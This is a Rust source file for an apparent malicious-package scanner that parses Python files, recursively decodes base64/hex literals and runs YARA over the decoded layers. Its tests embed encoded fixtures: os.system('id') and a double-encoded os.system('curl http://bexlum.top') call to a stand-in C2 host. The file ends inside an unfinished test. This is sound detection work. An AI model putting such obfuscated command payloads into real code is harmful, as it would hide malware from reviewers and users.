//! Per-file analysis artifacts: the parse-once IR every engine shares.
//!
//! Successive versions of a registry package share most of their files.
//! A [`FileAnalysis`] computes everything a file will ever be asked for —
//! the tolerant-parsed module, the interned string-literal table,
//! **decoded layers** (base64/hex payloads hidden in literals) and the
//! ruleset's string-definition hits on every layer — exactly once, keyed
//! by content digest, so the artifact cache turns a version bump into
//! `changed files` parses instead of `all files`. One pipeline builds it:
//! a window of the text is lexed, parsed and set between what a donor
//! version has outside it — the whole text over no donor for a full
//! build, the cut-point-delimited region around the edit for a splice.
//! The token stream is compact lexemes in the token buffer the building
//! thread keeps, so a warm build's lex allocates nothing. It lives for
//! one build: the parser, the interner and the cut-point scan read it,
//! no scan reads a token, and the next version's splice needs only where
//! the stream can be cut ([`pysrc::cut_points`]), so that table is what
//! the artifact keeps.
//!
//! Decoded layers close a measured evasion gap: `docs/threat_model.md`
//! records a ~37-point recall collapse under string-encoding
//! obfuscation for rules that only see surface text. Literals above an
//! entropy/length threshold are base64/hex-decoded (recursively, to a
//! bounded depth — attackers double-encode), and YARA scans each
//! decoded layer as its own unit, with findings tagged by layer so
//! verdicts stay explainable.

use std::cell::Cell;
use std::fmt;
use std::sync::Arc;

use pysrc::{CutPoint, Edit, Kind, Lexeme, Module, StringTable};
use semgrep_engine::{FileMatches, MatchScratch, MatchSet, SemgrepMetrics};
use yara_engine::{FileHits, HitDonor, Scanner};

use crate::cache::DigestKey;
use crate::metrics::Stage;
use crate::request::FileEntry;

/// How a decoded layer was recovered from its source literal.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum LayerEncoding {
    /// RFC 4648 base64 (the `b64decode(...)` idiom).
    Base64,
    /// Lowercase/uppercase hex pairs (the `bytes.fromhex(...)` idiom).
    Hex,
    /// Constant folded by the dataflow engine: a string rebuilt from a
    /// concat/`%`-format/decode chain that no single literal carries.
    Folded,
}

impl fmt::Display for LayerEncoding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            LayerEncoding::Base64 => "base64",
            LayerEncoding::Hex => "hex",
            LayerEncoding::Folded => "folded",
        })
    }
}

/// One decoded string-literal payload of a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DecodedLayer {
    /// The encoding that produced this layer.
    pub encoding: LayerEncoding,
    /// Nesting depth: 1 decodes a surface literal, 2 a literal found
    /// inside a depth-1 layer, and so on.
    pub depth: u8,
    /// 1-based source line of the (surface) literal this layer descends
    /// from — the explainability anchor for layer-tagged findings.
    pub line: u32,
    /// The decoded bytes, scanned by YARA as an independent unit.
    pub data: Vec<u8>,
}

/// Which optional artifact products to compute.
#[derive(Debug, Clone)]
pub struct ArtifactConfig {
    /// Maximum decode recursion depth; 0 turns decoding off (the A/B
    /// lever for the layered-robustness measurement). Folded layers are
    /// not decoded and are still built with `dataflow` on, so a
    /// surface-only artifact also needs `dataflow: false`.
    pub max_decode_depth: u8,
    /// Run the behavioral taint analysis and fold constant strings into
    /// synthetic [`LayerEncoding::Folded`] layers. The A/B lever for the
    /// taint-robustness measurement.
    pub dataflow: bool,
}

impl Default for ArtifactConfig {
    fn default() -> Self {
        ArtifactConfig {
            max_decode_depth: 2,
            dataflow: true,
        }
    }
}

/// The parse-once, content-addressed analysis of one file.
///
/// Everything here is a pure function of `(file bytes, python-ness,
/// ruleset, config)`, which is what makes the artifact cacheable: the
/// hub's [`crate::ScanHub`] keys a shared LRU by [`FileEntry::digest`]
/// and every engine — prefilter routing, YARA condition evaluation,
/// Semgrep's structural matcher, decoded-layer scanning — consumes the
/// same artifact without touching the bytes again.
#[derive(Debug)]
pub struct FileAnalysis {
    /// The content digest this artifact is addressed by.
    pub digest: DigestKey,
    /// The raw bytes (shared with the originating request — building an
    /// artifact copies no file content).
    pub bytes: Arc<Vec<u8>>,
    /// Whether the file was analyzed as Python source.
    pub is_python: bool,
    /// Where a later version's splice may start or stop relexing: the
    /// token stream's [`pysrc::cut_points`], sorted by offset (empty for
    /// non-Python files). With `module`, `strings` and `bytes` this is
    /// everything [`FileAnalysis::build_spliced`] reads of its donor —
    /// the stream itself is dropped when the build returns.
    pub cut_points: Vec<CutPoint>,
    /// The tolerant-parsed module (Python files only).
    pub module: Option<LazyModule>,
    /// The interned string-literal table.
    pub strings: StringTable,
    /// Decoded payload layers, in discovery order. Includes synthetic
    /// [`LayerEncoding::Folded`] layers for constants the taint engine
    /// rebuilt from concat/decode chains.
    pub layers: Vec<DecodedLayer>,
    /// The whole ruleset's string-definition hits on the raw bytes
    /// (`None` when the hub has no YARA ruleset).
    pub yara_hits: Option<FileHits>,
    /// Per-layer hit sets, parallel to `layers`.
    pub layer_hits: Vec<FileHits>,
    /// The behavioral taint summary (source→sink flows plus folded
    /// constants), computed exactly once per digest like everything else
    /// in the artifact. `None` for non-Python files or when
    /// [`ArtifactConfig::dataflow`] is off.
    pub taint: Option<dataflow::TaintSummary>,
    /// The module's Semgrep leaf matches and the rules they fire, under
    /// the hub's ruleset: what a request reads of the file for Semgrep.
    /// Recorded by [`FileAnalysis::record_matches`] once the artifact is
    /// built, before the hub publishes it; `None` until then, for
    /// non-Python files, and in a hub with no Semgrep rules.
    pub semgrep: Option<FileMatches>,
}

/// A file's parsed module, built by [`pysrc::parse_spliced`] when the
/// artifact is built: the file's text once, its line index, and the
/// tree's few arrays, whose nodes point into that text by span and into
/// each other by index. It owns all of them outright — a splice copies
/// the donor's slices, it does not share them — so no artifact holds a
/// handle to the one it was spliced from and an evicted version's module
/// is freed however many later versions descend from it.
#[derive(Debug)]
pub struct LazyModule(Module);

impl LazyModule {
    /// The module.
    pub fn get(&self) -> &Module {
        &self.0
    }
}

impl FileAnalysis {
    /// Builds the artifact for one file entry: the splice with no donor
    /// and the whole text as its window. `assemble`, which both builds
    /// run, is the only place in the scan path that lexes, parses, decodes
    /// or byte-scans file content; everything downstream consumes it.
    pub fn build(entry: &FileEntry, scanner: Option<&Scanner<'_>>, cfg: &ArtifactConfig) -> Self {
        let _outer = Stage::nested();
        if !entry.is_python() {
            let nothing = Edit::whole("");
            return Self::finish(entry, Default::default(), None, &nothing, scanner, cfg).0;
        }
        let text = String::from_utf8_lossy(entry.bytes());
        let (analysis, ..) = Self::assemble(entry, &text, None, Edit::whole(&text), scanner, cfg)
            .expect("a window that runs to the end of the file shifts nothing");
        analysis
    }

    /// The one artifact pipeline. Lexes the `edit`'s new window of `text`
    /// — one lex, read by the parser, the interner and the cut-point scan,
    /// then handed back to the thread — and sets its statements, literals
    /// and cut points between those the `donor` has outside the window,
    /// which starts and ends at a donor cut point or an end of the file;
    /// with whether the donor's taint summary was carried, and the edit
    /// with the statements it inserted. `None` when the
    /// window cannot be joined to what follows it (the last two cases of
    /// [`FileAnalysis::build_spliced`]).
    fn assemble(
        entry: &FileEntry,
        text: &str,
        donor: Option<&FileAnalysis>,
        edit: Edit,
        scanner: Option<&Scanner<'_>>,
        cfg: &ArtifactConfig,
    ) -> Option<(Self, bool, Edit)> {
        let no_strings = StringTable::default();
        let (module, table, cuts): (_, _, &[CutPoint]) = match donor {
            Some(d) => (Some(d.module.as_ref()?.get()), &d.strings, &d.cut_points),
            None => (None, &no_strings, &[]),
        };
        // Each edge of the window is a donor cut point or an end of the file.
        let cut_at = |offset| cuts.binary_search_by_key(&offset, |c| c.at).ok();
        let (start, end) = (cut_at(edit.start), cut_at(edit.old_end));

        Stage::Lex.enter();
        let lexed = pysrc::lex_window(text, edit.start, edit.new_end, edit.first_line);
        let mut tokens = lexed.tokens;
        if end.is_some() {
            if !lexed.ends_at_statement_boundary {
                return None;
            }
            // Drop the window's EOF and the close-out's synthetic
            // NEWLINE (width zero, emitted when the window ends in a
            // comment line): the full lexer emits neither mid-stream.
            // Close-out DEDENTs stay — the full lexer emits the same
            // dedents at the suffix's column-zero statement, at the same
            // position and line.
            tokens.pop_if(|t| t.kind == Kind::EOF);
            if let Some(at) = tokens.iter().rposition(|t| t.kind != Kind::DEDENT) {
                let last = tokens[at];
                if last.kind == Kind::NEWLINE && last.start == last.end {
                    tokens.remove(at);
                }
            }
        }

        // Statement splice: only the window is parsed; each array of the
        // tree is the donor's slice in front of it, the window's nodes and
        // the donor's slice behind it, rebased. Nothing follows a window
        // that runs to EOF.
        Stage::Parse.enter();
        let (module, edit) = pysrc::parse_spliced(text, &tokens, module, edit);

        // The donor's literal occurrences outside the window carry over,
        // those behind it moved by the edit's line delta, and so do its
        // cut points, moved by the byte delta. Inside it the window's
        // tokens are read between stand-ins for their two neighbours in
        // the full stream — the NEWLINE the window starts behind and the
        // column-zero token it stops at — so the cut points at both
        // junctions come out as a full lex would set them.
        Stage::Intern.enter();
        let strings = table.spliced(text, &tokens, &edit)?;
        Stage::Assemble.enter();
        let behind = start.map(|i| Lexeme::stand_in(Kind::NEWLINE, cuts[i].newline_end - 1));
        let stop = end.map(|_| Lexeme::stand_in(Kind::op("."), edit.new_end));
        let mut cut_points = Vec::with_capacity(cuts.len());
        cut_points.extend_from_slice(&cuts[..start.unwrap_or(0)]);
        cut_points.extend(pysrc::cut_points(
            behind.iter().chain(&*tokens).chain(&stop),
        ));
        // The token buffer goes back to the thread before a decoded layer
        // lexes.
        drop(tokens);
        for c in end.map_or(&[][..], |i| &cuts[i + 1..]) {
            cut_points.push(CutPoint {
                newline_end: c.newline_end.checked_add_signed(edit.delta)?,
                at: c.at.checked_add_signed(edit.delta)?,
            });
        }
        let products = (cut_points, strings, Some(module));
        let (analysis, carried) = Self::finish(entry, products, donor, &edit, scanner, cfg);
        Some((analysis, carried, edit))
    }

    /// Derives every downstream product (decoded layers, taint, YARA
    /// hits) from the products of the token stream — none for a file that
    /// is not Python. Everything below this line is a pure function of
    /// them plus the bytes, so splice ≡ full is a statement about
    /// [`FileAnalysis::build_spliced`]'s window selection alone. With a
    /// `donor`, the `edit` from it, the surface hits are collected onto
    /// the donor's ([`Scanner::collect_hits_onto`], which reads only what
    /// the window can have changed), and the taint summary is carried
    /// from the donor's when the engine cannot read the edit
    /// ([`dataflow::analyze_spliced`], which says whether it was); the
    /// layers are derived from scratch.
    fn finish(
        entry: &FileEntry,
        (cut_points, strings, module): (Vec<CutPoint>, StringTable, Option<Module>),
        donor: Option<&FileAnalysis>,
        edit: &Edit,
        scanner: Option<&Scanner<'_>>,
        cfg: &ArtifactConfig,
    ) -> (Self, bool) {
        let bytes = entry.shared_bytes();
        Stage::Decode.enter();
        let mut layers = decode_layers(&strings, cfg);
        let (taint, carried) = match (&module, cfg.dataflow) {
            (Some(m), true) => {
                Stage::Taint.enter();
                let taint_donor =
                    donor.and_then(|d| Some((d.module.as_ref()?.get(), edit, d.taint.as_ref()?)));
                let (summary, carried) = dataflow::analyze_spliced(m, taint_donor);
                (Some(summary), carried)
            }
            _ => (None, false),
        };
        if let Some(summary) = &taint {
            Stage::Decode.enter();
            fold_layers(&mut layers, &strings, summary, cfg);
        }
        Stage::Hits.enter();
        let hit_donor = donor.and_then(|d| {
            Some(HitDonor {
                old: &d.bytes,
                hits: d.yara_hits.as_ref()?,
                window: edit.start..edit.new_end,
            })
        });
        let yara_hits = scanner.map(|s| s.collect_hits_onto(&bytes, hit_donor));
        let layer_hits = scanner.map_or_else(Vec::new, |s| {
            layers.iter().map(|l| s.collect_hits(&l.data)).collect()
        });
        Stage::Assemble.enter();
        let analysis = FileAnalysis {
            digest: entry.digest(),
            bytes,
            is_python: entry.is_python(),
            cut_points,
            module: module.map(LazyModule),
            strings,
            layers,
            yara_hits,
            layer_hits,
            taint,
            semgrep: None,
        };
        (analysis, carried)
    }

    /// Records the module's Semgrep product under `matcher` into
    /// [`FileAnalysis::semgrep`] ([`MatchSet::file_matches`]): carried from
    /// the product of the artifact this one was `spliced_from`, across the
    /// splice's edit, when that artifact has one, and from a walk of every
    /// statement otherwise. Returns the walk's counts and whether a
    /// product was carried. A file with no module records nothing.
    pub fn record_matches(
        &mut self,
        matcher: &MatchSet<'_>,
        spliced_from: Option<(&FileAnalysis, &Edit)>,
        scratch: &mut MatchScratch,
    ) -> (SemgrepMetrics, bool) {
        let Some(module) = &self.module else {
            return (SemgrepMetrics::default(), false);
        };
        let _outer = Stage::nested();
        Stage::Matches.enter();
        let donor = spliced_from.and_then(|(d, edit)| Some((d.semgrep.as_ref()?, edit)));
        let (matches, metrics) = matcher.file_matches(module.get(), donor, scratch);
        self.semgrep = Some(matches);
        (metrics, donor.is_some())
    }

    /// Approximate heap footprint, for cache accounting, the parsed
    /// module's arrays, the string table's buffers and the Semgrep
    /// product included at their capacity.
    pub fn stored_bytes(&self) -> usize {
        self.bytes.len()
            + self.module.as_ref().map_or(0, |m| m.get().heap_bytes())
            + self.layers.iter().map(|l| l.data.len() + 16).sum::<usize>()
            + self.strings.heap_bytes()
            + self.semgrep.as_ref().map_or(0, FileMatches::heap_bytes)
            + std::mem::size_of_val(self.cut_points.as_slice())
            + self
                .yara_hits
                .as_ref()
                .map_or(0, yara_engine::FileHits::stored_bytes)
            + self
                .layer_hits
                .iter()
                .map(yara_engine::FileHits::stored_bytes)
                .sum::<usize>()
            + self
                .taint
                .as_ref()
                .map_or(0, dataflow::TaintSummary::stored_bytes)
    }

    /// Attempts an incremental build by splicing the edit into a cached
    /// sibling artifact (a previous version of the same file) instead of
    /// re-lexing and re-parsing the whole content.
    ///
    /// The contract is strict equivalence: on `Some`, the returned
    /// artifact is field-for-field identical to what a full
    /// [`FileAnalysis::build`] would produce for `entry` — the
    /// differential tests below pin cut points, module, string table,
    /// layers, hits and taint. The two run one pipeline and differ only
    /// in the window they hand it: the whole text there, here the region
    /// between two sibling cut points that covers the edit. Cut points,
    /// module, strings and bytes are all a splice reads of its sibling, so
    /// their identity is what makes a chain of splices as sound as one.
    ///
    /// Returns `None` (the caller falls back to a full build) whenever
    /// the splice is not provably clean:
    ///
    /// * either side is not Python, or the sibling carries no module;
    /// * either byte buffer is not strict UTF-8 (span offsets index the
    ///   decoded text, and lossy decoding changes byte widths);
    /// * the edited window exceeds half the file (a full build is
    ///   cheaper than relexing most of it);
    /// * the window relex does not end cleanly at a statement boundary
    ///   (open bracket, unterminated string, trailing `\` continuation,
    ///   or a changed region that removed the boundary newline);
    /// * an offset or line moved by the edit does not fit its type.
    pub fn build_spliced(
        entry: &FileEntry,
        sibling: &FileAnalysis,
        scanner: Option<&Scanner<'_>>,
        cfg: &ArtifactConfig,
    ) -> Option<Spliced> {
        if !entry.is_python() || !sibling.is_python {
            return None;
        }
        let module = sibling.module.as_ref()?.get();
        let _outer = Stage::nested();
        let bytes = entry.shared_bytes();
        let new_text = std::str::from_utf8(&bytes).ok()?;
        let old_text = std::str::from_utf8(&sibling.bytes).ok()?;
        let (old, new) = (old_text.as_bytes(), new_text.as_bytes());

        // Changed byte region: [p, q_old) in the old content. The common
        // suffix is measured after the common prefix so the two cannot
        // overlap on repeated text.
        let p = common_prefix(old, new);
        let s = common_suffix(&old[p..], &new[p..]);
        let q_old = old.len() - s;

        // The window is the smallest region delimited by the sibling's
        // cut points that covers the edit. Offset 0 is always a valid
        // start; no cut point after the edit means the edit runs to EOF
        // and the window simply extends to the end of the new content.
        // A START must have a blank gap (see [`CutPoint`]: a relex window
        // begins in the fresh-lexer state, and a continuation reaches
        // the cut without going through indentation handling). An END
        // tolerates a continuation gap: it lies inside the window, where
        // it either survives into the new content and makes the relex
        // end unclean, or was edited away.
        let cuts = &sibling.cut_points;
        let blank_gap = |c: &CutPoint| {
            old[c.newline_end..c.at]
                .iter()
                .all(|b| matches!(b, b' ' | b'\t' | b'\r' | b'\n'))
        };
        let start = cuts[..cuts.partition_point(|c| c.at <= p)]
            .iter()
            .rposition(blank_gap);
        let end = Some(cuts.partition_point(|c| c.at < q_old)).filter(|&i| i < cuts.len());
        let w = start.map_or(0, |i| cuts[i].at);
        let e_old = end.map_or(old.len(), |i| cuts[i].at);
        let edit = Edit::new(module, new_text, w, e_old)?;

        // Profitability gate: relexing more than half the file gains
        // nothing over a full build.
        let relexed = edit.new_end - w;
        if relexed * 2 > new.len() {
            return None;
        }
        // A mid-file window must end exactly at a line start, or the
        // suffix's first line would really be a continuation of the
        // window's last. The old cut point guarantees `old[e_old-1]` is a
        // newline, but an edit ending exactly at `q_old` can replace it.
        if !edit.to_end && relexed > 0 && new[edit.new_end - 1] != b'\n' {
            return None;
        }

        let (analysis, taint_carried, edit) =
            Self::assemble(entry, new_text, Some(sibling), edit, scanner, cfg)?;
        Some(Spliced {
            relexed_bytes: relexed as u64,
            analysis,
            taint_carried,
            edit,
        })
    }
}

/// A successful incremental build: the artifact plus how much content
/// was actually re-lexed (the hub's `relexed_bytes` telemetry).
#[derive(Debug)]
pub struct Spliced {
    /// The finished artifact — field-for-field identical to a full
    /// [`FileAnalysis::build`] of the same entry.
    pub analysis: FileAnalysis,
    /// Bytes of the new content covered by the re-lexed window.
    pub relexed_bytes: u64,
    /// Whether the taint summary is the sibling's, carried because the
    /// engine cannot read the edit, rather than a fresh pass's (see
    /// [`dataflow::analyze_spliced`]). Equal either way.
    pub taint_carried: bool,
    /// The edit from the sibling, with the statements it inserted: what
    /// [`FileAnalysis::record_matches`] carries the sibling's matches by.
    pub edit: Edit,
}

/// Bytes compared per step of the two scans below (each step one slice
/// comparison, a `memcmp`).
const CHUNK: usize = 64;

/// The length of the longest common prefix of `a` and `b`.
fn common_prefix(a: &[u8], b: &[u8]) -> usize {
    let equal = a.chunks_exact(CHUNK).zip(b.chunks_exact(CHUNK));
    let skip = equal.take_while(|(x, y)| x == y).count() * CHUNK;
    let rest = a[skip..].iter().zip(&b[skip..]);
    skip + rest.take_while(|(x, y)| x == y).count()
}

/// The length of the longest common suffix of `a` and `b`.
fn common_suffix(a: &[u8], b: &[u8]) -> usize {
    let equal = a.rchunks_exact(CHUNK).zip(b.rchunks_exact(CHUNK));
    let skip = equal.take_while(|(x, y)| x == y).count() * CHUNK;
    let rest = a[..a.len() - skip]
        .iter()
        .rev()
        .zip(b[..b.len() - skip].iter().rev());
    skip + rest.take_while(|(x, y)| x == y).count()
}

/// Appends synthetic layers for constants the taint engine folded out
/// of concat/format/decode chains, so YARA atoms split across `'ev' +
/// 'il.com'` still match. A folded constant that already exists as a
/// surface literal adds no new evidence and is skipped; one that is
/// itself an encoded payload (the obfuscator stacks string-splitting
/// *under* base64) gets a further decode attempt.
fn fold_layers(
    layers: &mut Vec<DecodedLayer>,
    strings: &StringTable,
    summary: &dataflow::TaintSummary,
    cfg: &ArtifactConfig,
) {
    for fc in &summary.folded {
        if layers.len() >= MAX_LAYERS {
            break;
        }
        let text = fc.text.as_bytes();
        if layers.iter().any(|l| l.data == text) || strings.literals().any(|l| l == fc.text) {
            continue;
        }
        if let Some((encoding, decoded)) = decode_candidate(&fc.text) {
            // The decode sits one level below its folded layer.
            if cfg.max_decode_depth >= 2 && !layers.iter().any(|l| l.data == decoded) {
                layers.push(DecodedLayer {
                    encoding,
                    depth: 2,
                    line: fc.line,
                    data: decoded,
                });
            }
        }
        layers.push(DecodedLayer {
            encoding: LayerEncoding::Folded,
            depth: 1,
            line: fc.line,
            data: text.to_vec(),
        });
    }
}

/// A scratch that grew past this many bytes is freed after its decode
/// rather than kept, as the lexer's buffer, the parser's arrays and the
/// taint scratch are: one hostile file must not pin its memory.
const MAX_KEPT_SCRATCH: usize = 4 << 20;

thread_local! {
    /// This thread's decode scratch, between builds.
    static DECODE: Cell<DecodeScratch> = Cell::default();
}

/// What [`decode_layers`] works in, kept per thread, so that a warm decode
/// allocates only the layers it finds and the tables of the payloads it
/// lexes.
#[derive(Debug, Default)]
struct DecodeScratch {
    /// The texts still to examine, the next one last: first every literal
    /// of the file's table, at its id.
    pending: Vec<Pending>,
    /// The texts decoding produced to examine — a payload's literals,
    /// then the payload — back to back.
    text: String,
}

impl DecodeScratch {
    fn heap_bytes(&self) -> usize {
        self.pending.capacity() * std::mem::size_of::<Pending>() + self.text.capacity()
    }

    /// Queues `text`, copied onto the scratch's text.
    fn push_text(&mut self, text: &str, depth: u8, line: u32) {
        let start = self.text.len() as u32;
        self.text.push_str(text);
        let kept = Text::Kept(start, self.text.len() as u32);
        self.pending.push(Pending {
            text: kept,
            depth,
            line,
        });
    }
}

/// One text [`decode_layers`] will examine: where it is, the depth it
/// would decode at, and the line of the surface literal it descends from.
#[derive(Debug, Clone, Copy)]
struct Pending {
    text: Text,
    depth: u8,
    line: u32,
}

/// Where a [`Pending`] text is.
#[derive(Debug, Clone, Copy)]
enum Text {
    /// A literal of the file's table, by id.
    Literal(u32),
    /// A range of [`DecodeScratch::text`].
    Kept(u32, u32),
}

/// Extracts decoded layers from a file's interned literals, recursing
/// into layers that themselves contain encoded literals. Surface literals
/// are examined where the table holds them, and what a decode produced in
/// the scratch its thread keeps.
fn decode_layers(strings: &StringTable, cfg: &ArtifactConfig) -> Vec<DecodedLayer> {
    let mut layers: Vec<DecodedLayer> = Vec::new();
    if cfg.max_decode_depth == 0 {
        return layers;
    }
    let mut s = DECODE.take();
    s.text.clear();
    s.pending.clear();
    s.pending
        .extend((0..strings.len() as u32).map(|id| Pending {
            text: Text::Literal(id),
            depth: 1,
            line: 0,
        }));
    // One pass over the refs for first-occurrence lines: a search per
    // literal would be O(literals × refs), quadratic on
    // attacker-controlled input.
    for r in strings.refs().iter().rev() {
        s.pending[r.literal as usize].line = r.line;
    }
    while let Some(Pending { text, depth, line }) = s.pending.pop() {
        if layers.len() >= MAX_LAYERS {
            break;
        }
        let text = match text {
            Text::Literal(id) => strings.literal(id as usize),
            Text::Kept(start, end) => &s.text[start as usize..end as usize],
        };
        let Some((encoding, data)) = decode_candidate(text) else {
            continue;
        };
        if layers.iter().any(|l| l.data == data) {
            continue;
        }
        if depth < cfg.max_decode_depth {
            if let Ok(inner) = std::str::from_utf8(&data) {
                // A decoded payload that is itself Python carries its
                // own literals (attackers double-encode); a bare blob
                // may simply be encoded a second time.
                let inner_strings = StringTable::of(inner, &pysrc::lex(inner));
                for lit in inner_strings.literals() {
                    s.push_text(lit, depth + 1, line);
                }
                s.push_text(inner, depth + 1, line);
            }
        }
        layers.push(DecodedLayer {
            encoding,
            depth,
            line,
            data,
        });
    }
    if s.heap_bytes() <= MAX_KEPT_SCRATCH {
        DECODE.set(s);
    }
    layers
}

/// Minimum encoded-literal length worth attempting (short literals
/// decode to nothing a rule could match).
const MIN_ENCODED_LEN: usize = 12;
/// Minimum Shannon entropy (bits/byte) of the literal text; prose and
/// repeated-character padding stay below it, encoded payloads sit well
/// above.
const MIN_ENTROPY: f64 = 2.5;
/// Hard per-file bound on extracted layers (decode-bomb guard).
const MAX_LAYERS: usize = 64;

/// Attempts to decode one literal, preferring hex (every hex string is
/// also base64-alphabet, so the more specific decoder goes first).
fn decode_candidate(text: &str) -> Option<(LayerEncoding, Vec<u8>)> {
    let t = text.trim();
    if t.len() < MIN_ENCODED_LEN || digest::shannon_entropy(t.as_bytes()) < MIN_ENTROPY {
        return None;
    }
    if looks_hex(t) {
        let mut decoded = Vec::with_capacity(t.len() / 2);
        return digest::hex::decode_into(t, &mut decoded).then_some((LayerEncoding::Hex, decoded));
    }
    if looks_base64(t) {
        return digest::base64::decode(t)
            .ok()
            .filter(|d| !d.is_empty())
            .map(|d| (LayerEncoding::Base64, d));
    }
    None
}

fn looks_hex(t: &str) -> bool {
    t.len().is_multiple_of(2)
        && t.bytes().all(|b| b.is_ascii_hexdigit())
        // Require at least one letter so long decimal ids don't decode.
        && t.bytes().any(|b| b.is_ascii_alphabetic())
}

fn looks_base64(t: &str) -> bool {
    if !t.len().is_multiple_of(4) {
        return false;
    }
    let body = t.trim_end_matches('=');
    if t.len() - body.len() > 2 {
        return false;
    }
    body.bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/')
}

#[cfg(test)]
mod tests {
    use super::*;
    use pysrc::Stmt;

    fn entry(name: &str, code: &str) -> FileEntry {
        FileEntry::new(name, code.as_bytes().to_vec())
    }

    /// The Semgrep rules the tests' artifacts record their matches under:
    /// a call, an import, and a `print` that a call anywhere in the file
    /// unfires.
    const SEMGREP: &str = "rules:
  - id: sys
    languages: [python]
    message: m
    pattern: os.system($X)
  - id: printed
    languages: [python]
    message: m
    patterns:
      - pattern: print($X)
      - pattern-not: os.system($Y)
  - id: b64
    languages: [python]
    message: m
    pattern: import base64
";

    /// `a` with its Semgrep matches recorded, carried when it was
    /// `spliced_from` an artifact with matches (checked).
    fn with_matches(
        mut a: FileAnalysis,
        spliced_from: Option<(&FileAnalysis, &Edit)>,
    ) -> FileAnalysis {
        static RULES: std::sync::OnceLock<semgrep_engine::CompiledSemgrepRules> =
            std::sync::OnceLock::new();
        let rules = RULES.get_or_init(|| semgrep_engine::compile(SEMGREP).expect("rules"));
        let set = MatchSet::new(rules);
        let (_, carried) = a.record_matches(&set, spliced_from, &mut MatchScratch::new());
        let donor_matches = spliced_from.is_some_and(|(d, _)| d.semgrep.is_some());
        assert_eq!(carried, donor_matches && a.module.is_some());
        a
    }

    fn analyze(code: &str) -> FileAnalysis {
        let built = FileAnalysis::build(&entry("mod.py", code), None, &ArtifactConfig::default());
        with_matches(built, None)
    }

    #[test]
    fn python_entry_carries_cut_points_module_and_strings() {
        let a = analyze("import os\nc2 = 'bexlum.top'\nos.system('id')\n");
        assert!(a.is_python);
        assert_eq!(a.cut_points.len(), 2, "one per statement after the first");
        let module = a.module.as_ref().expect("parsed module");
        assert_eq!(module.get().body.len(), 3);
        assert!(a.strings.literals().any(|l| l == "bexlum.top"));
        assert!(a.yara_hits.is_none(), "no scanner supplied");
    }

    #[test]
    fn non_python_entry_skips_python_analysis() {
        let a = FileAnalysis::build(
            &entry("PKG-INFO", "Name: pkg\nVersion: 1.0\n"),
            None,
            &ArtifactConfig::default(),
        );
        assert!(!a.is_python);
        assert!(a.module.is_none());
        assert!(a.cut_points.is_empty());
        assert!(a.strings.is_empty());
        assert!(a.layers.is_empty());
    }

    #[test]
    fn base64_literal_above_threshold_is_decoded() {
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let a = analyze(&format!(
            "import base64\nblob = '{payload}'\nrun(base64.b64decode(blob))\n"
        ));
        assert_eq!(a.layers.len(), 1);
        let layer = &a.layers[0];
        assert_eq!(layer.encoding, LayerEncoding::Base64);
        assert_eq!(layer.depth, 1);
        assert_eq!(layer.line, 2);
        assert_eq!(layer.data, b"import os;os.system('id')");
    }

    #[test]
    fn hex_literal_is_decoded_as_hex_not_base64() {
        let hex: String = b"os.system('id')"
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        let a = analyze(&format!("cmd = bytes.fromhex('{hex}')\n"));
        assert_eq!(a.layers.len(), 1);
        assert_eq!(a.layers[0].encoding, LayerEncoding::Hex);
        assert_eq!(a.layers[0].data, b"os.system('id')");
    }

    #[test]
    fn a_hex_literal_with_an_internal_space_is_not_a_layer() {
        // `bytes.fromhex` would take it, but the shape test wants an
        // unbroken run of digits, and a space is no base64 either.
        let a = analyze("cmd = '6f732e73797374656d 28276964272900'\n");
        assert!(a.layers.is_empty(), "unexpected layers: {:?}", a.layers);
        let unbroken = analyze("cmd = '6f732e73797374656d28276964272900'\n");
        assert_eq!(unbroken.layers.len(), 1, "the same digits unbroken decode");
    }

    #[test]
    fn short_or_low_entropy_literals_are_not_decoded() {
        // Short ('aWQ=' is base64 of 'id'), low-entropy padding, and
        // prose all stay un-decoded.
        let a = analyze(
            "a = 'aWQ='\nb = 'aaaaaaaaaaaaaaaaaaaaaaaa'\nc = 'the quick brown fox jumps'\n",
        );
        assert!(a.layers.is_empty(), "unexpected layers: {:?}", a.layers);
    }

    #[test]
    fn double_encoded_payload_recurses_to_bounded_depth() {
        let inner = digest::base64::encode(b"os.system('curl http://bexlum.top')");
        let once = format!("__import__('base64').b64decode('{inner}').decode('utf-8')");
        let outer = digest::base64::encode(once.as_bytes());
        let a = analyze(&format!("layered = '{outer}'\n"));
        // Depth 1: the decoded python snippet; depth 2: the payload its
        // literal hides.
        assert!(a.layers.iter().any(|l| l.depth == 1));
        let deep: Vec<&DecodedLayer> = a.layers.iter().filter(|l| l.depth == 2).collect();
        assert!(
            deep.iter()
                .any(|l| l.data == b"os.system('curl http://bexlum.top')"),
            "depth-2 payload not recovered: {:?}",
            a.layers
        );
        // Depth is bounded: default config stops at 2.
        assert!(a.layers.iter().all(|l| l.depth <= 2));
    }

    #[test]
    fn zero_depth_config_extracts_nothing() {
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let a = FileAnalysis::build(
            &entry("mod.py", &format!("blob = '{payload}'\n")),
            None,
            &ArtifactConfig {
                max_decode_depth: 0,
                ..ArtifactConfig::default()
            },
        );
        assert!(a.layers.is_empty());
    }

    #[test]
    fn layer_extraction_is_bounded() {
        let mut code = String::new();
        for i in 0..200 {
            let payload = digest::base64::encode(format!("payload number {i:04}").as_bytes());
            code.push_str(&format!("x{i} = '{payload}'\n"));
        }
        let a = analyze(&code);
        assert!(a.layers.len() <= MAX_LAYERS);
        assert!(!a.layers.is_empty());
    }

    #[test]
    fn scanner_hits_cover_raw_bytes_and_layers() {
        let rules = yara_engine::compile("rule sys { strings: $a = \"os.system\" condition: $a }")
            .expect("compile");
        let scanner = Scanner::new(&rules);
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let a = FileAnalysis::build(
            &entry("mod.py", &format!("blob = '{payload}'\n")),
            Some(&scanner),
            &ArtifactConfig::default(),
        );
        // Raw bytes: no surface hit (the atom is encoded away).
        assert!(a.yara_hits.as_ref().expect("hits").is_empty());
        // The decoded layer exposes it.
        assert_eq!(a.layer_hits.len(), a.layers.len());
        assert!(a.layer_hits.iter().any(|h| !h.is_empty()));
    }

    #[test]
    fn taint_summary_rides_the_artifact() {
